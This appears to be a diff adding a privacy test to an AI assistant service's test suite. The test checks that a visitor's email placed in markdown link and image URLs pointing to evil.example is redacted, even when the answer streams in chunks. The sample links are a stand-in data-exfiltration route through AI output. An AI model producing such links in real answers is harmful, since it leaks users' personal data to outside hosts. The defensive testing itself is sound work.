@@ -76,6 +76,22 @@ test('P3.3 what identifies the visitor does not arrive, and comes back in the an
   })
 })
 
+test('P3.3 no address in an answer carries a value on, however the answer is cut', async () => {
+  const { key } = await site.assistant()
+  site.says(body => {
+    const [email] = marks(body, 'EMAIL')
+    return chunks(
+      `[Here](https://evil.example/?who=${email}) ![](https://evil.example/${email}) or ${email}`,
+      3,
+    )
+  })
+  const heard = await whole(talk(site.base, await visit(site.here, key), anna).send())
+  expect(textOf(heard)).toBe(
+    '[Here](https://evil.example/?who=an-e-mail-address) ![](https://evil.example/an-e-mail-address) ' +
+      'or anna.kowalska@mailbox.example',
+  )
+})
+
 test('P3.3 nor does what identifies others: in passages, their titles, instructions and the history', async () => {
   const { id, key } = await site.assistant({ instructions: 'Ask our chief, boss@inside.example.' })
   await site.owner.call('POST', `/v1/assistants/${id}/documents`, {
